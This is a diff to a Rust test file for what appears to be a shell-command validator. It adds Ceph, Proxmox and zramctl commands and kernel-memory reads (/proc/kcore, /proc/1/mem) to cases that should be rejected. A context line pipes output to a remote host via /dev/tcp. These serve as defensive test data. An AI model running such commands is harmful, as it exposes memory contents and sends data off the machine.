@@ -26,6 +26,14 @@ fn cluster_status_that_changes_state() {
         "ha-manager set vm:100 --state stopped",
         "zpool clear tank",
         "zpool scrub tank",
+        "pveceph pool create x",
+        "pveceph pool set rbd --size 2",
+        "pveceph init",
+        "pveceph mon create",
+        "ceph osd status x y",
+        "zramctl --size 1G /dev/zram0",
+        "zramctl -r /dev/zram0",
+        "zramctl --find --size 1G",
     ]);
     accepted(&[
         "ceph -s",
@@ -171,6 +179,9 @@ fn device_files_other_than_dev_null() {
         "cd /dev && cat sda",
         "echo x > /dev/watchdog",
         "ls > /dev/tcp/1.2.3.4/80",
+        "strings /proc/kcore",
+        "cat /proc/kcore",
+        "xxd -l 64 /proc/1/mem",
     ]);
     accepted(&[
         "cat /dev/null",
